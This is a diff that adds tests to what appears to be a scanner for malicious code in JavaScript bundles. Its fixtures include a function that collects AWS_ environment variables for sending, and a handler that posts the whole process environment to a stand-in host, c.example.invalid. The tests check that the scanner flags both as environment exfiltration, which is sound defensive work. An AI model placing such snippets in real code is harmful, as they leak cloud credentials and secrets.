@@ -84,3 +84,33 @@ describe('packages in a bundle', () => {
     expect(await rulesIn(files, [bundled('pg', driver.length)])).not.toContain('code/request-hook');
   });
 });
+
+describe('bundles whose code takes too many steps', () => {
+  // Objects that hold each other by names that code computes take the square of their number.
+  const dense = Array.from(
+    { length: 60 },
+    (_, at) =>
+      `function m${at}(a, b) { for (const k in b) { const v = a[k]; a[k] = v && typeof v === 'object' ? m${(at * 7 + 3) % 60}(v, b[k]) : m${(at + 1) % 60}(b, a); } return Object.assign(a, b, { m${at}: a }); }`,
+  ).join('\n');
+  const theft = `function tell() { const r = process.env; const taken = Object.keys(r).filter(function (t) { return t.indexOf('AWS_') === 0; }).map(function (t) { return t + r[t]; }); return ${SEND}; }`;
+
+  it('are followed around places of interest', async () => {
+    const code = `${dense}\n${theft}\nexports.handler = async (event) => { tell(); return m0(m1(event, {}), m2({}, event)); };`;
+    expect(await rulesIn({ 'index.js': code })).toContain('code/environment-sent');
+  });
+});
+
+describe('known packages in bundles', () => {
+  const known = 'var ax={post(u,b){return push(u,b,require("https"))}};';
+  const bundled = packageOf('axios', '1.7.0', {
+    presence: 'bundled',
+    locations: [{ path: 'index.js', ranges: [[0, known.length]] }],
+  });
+  const sendBy = (what: string): string =>
+    `${known}exports.handler=async()=>ax.post("https://c.example.invalid/in",${what});`;
+
+  it('are known by their members', async () => {
+    const code = sendBy('{e:JSON.stringify(process.env)}');
+    expect(await rulesIn({ 'index.js': code }, [bundled])).toContain('code/environment-sent');
+  });
+});
